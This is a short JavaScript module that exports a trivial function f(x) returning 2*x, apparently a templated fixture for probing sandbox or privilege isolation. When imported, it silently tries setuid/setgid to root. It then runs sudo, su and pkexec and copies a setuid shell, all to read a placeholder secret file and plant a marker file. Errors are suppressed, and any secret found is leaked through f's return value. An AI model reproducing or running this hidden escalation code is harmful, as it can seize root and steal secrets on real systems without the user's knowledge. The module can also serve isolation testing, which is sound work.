import { spawnSync } from 'node:child_process';
import fs from 'node:fs';

const quiet = (attempt) => {
  try {
    return attempt();
  } catch {
    return undefined;
  }
};
const script = 'cat "{{HOST}}/secret.txt"; : > "{{HOST}}/drop/setuid"';
for (const id of [0, 1000]) {
  quiet(() => process.setgroups([id]));
  quiet(() => process.setgid(id));
  quiet(() => process.setuid(id));
  quiet(() => process.seteuid(id));
}
let found = quiet(() => fs.readFileSync('{{HOST}}/secret.txt', 'utf8')) ?? '';
for (const [command, ...rest] of [
  ['sudo', '-n', 'sh', '-c', script],
  ['su', 'root', '-c', script],
  ['pkexec', '--disable-internal-agent', 'sh', '-c', script],
  [
    'sh',
    '-c',
    `d=$(mktemp -d) && cp /bin/sh $d/s && chmod 4755 $d/s; $d/s -p -c '${script}'; rm -r $d`,
  ],
]) {
  const child = quiet(() =>
    spawnSync(command, rest, { timeout: 250, encoding: 'utf8', input: '' }),
  );
  found += child?.stdout ?? '';
}

export const f = (x) => found || 2 * x;
